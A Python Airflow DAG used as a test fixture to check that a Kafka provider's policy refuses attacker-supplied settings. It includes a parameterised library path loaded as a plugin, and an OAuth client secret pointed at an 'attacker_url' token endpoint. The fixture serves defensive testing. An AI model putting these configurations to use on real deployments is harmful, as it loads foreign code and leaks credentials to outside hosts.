"""DAG that tests/test_policy_attacks.py runs through real Airflow: what an editor of connections (the connection
extras) or of run parameters (rendered into a task's additional_properties) asks for, against a deployment that
lists one library and one URL."""

from __future__ import annotations

import pendulum
from airflow.sdk import DAG

from airflow_provider_kafka_connector.operators.kafka_producer import KafkaProducerOperator

with DAG(
    dag_id="policy_attacks",
    schedule=None,
    start_date=pendulum.datetime(2026, 1, 1, tz="UTC"),
    params={"topic": "unset", "attack_library": "unset", "attacker_url": "unset", "listed_url": "unset"},
):
    # Refused: a library, an assertion file sent to an unlisted URL (connection extra), a client secret sent to an
    # unlisted URL (task).
    KafkaProducerOperator(
        task_id="library_in_extra", kafka_conn_id="kafka_library_in_extra", topic="{{ params.topic }}", value="v"
    )
    KafkaProducerOperator(
        task_id="library_in_task",
        kafka_conn_id="kafka_plain",
        topic="{{ params.topic }}",
        value="v",
        additional_properties={"plugin.library.paths": "{{ params.attack_library }}"},
    )
    KafkaProducerOperator(
        task_id="assertion_in_extra", kafka_conn_id="kafka_assertion_in_extra", topic="{{ params.topic }}", value="v"
    )
    KafkaProducerOperator(
        task_id="client_secret_in_task",
        kafka_conn_id="kafka_plain",
        topic="{{ params.topic }}",
        value="v",
        additional_properties={
            "security.protocol": "SASL_PLAINTEXT",
            "sasl.mechanism": "OAUTHBEARER",
            "sasl.oauthbearer.token.endpoint.url": "{{ params.attacker_url }}",
            "sasl.oauthbearer.client.id": "airflow",
            "sasl.oauthbearer.client.secret": "Task-Client-Secret",
        },
    )
    # Allowed by the deployment: the listed library loads beside the provider's own plugin (a batch uses it), and
    # the listed URL is asked for a token.
    KafkaProducerOperator(
        task_id="listed_library",
        kafka_conn_id="kafka_listed_library",
        topic="{{ params.topic }}",
        messages=[{"key": str(n), "value": f"message {n}"} for n in range(3)],
    )
    KafkaProducerOperator(
        task_id="listed_url",
        kafka_conn_id="kafka_plain",
        topic="{{ params.topic }}",
        value="v",
        additional_properties={
            "security.protocol": "SASL_PLAINTEXT",
            "sasl.mechanism": "OAUTHBEARER",
            "sasl.oauthbearer.token.endpoint.url": "{{ params.listed_url }}",
            "sasl.oauthbearer.client.id": "airflow",
            "sasl.oauthbearer.client.secret": "Task-Client-Secret",
        },
    )
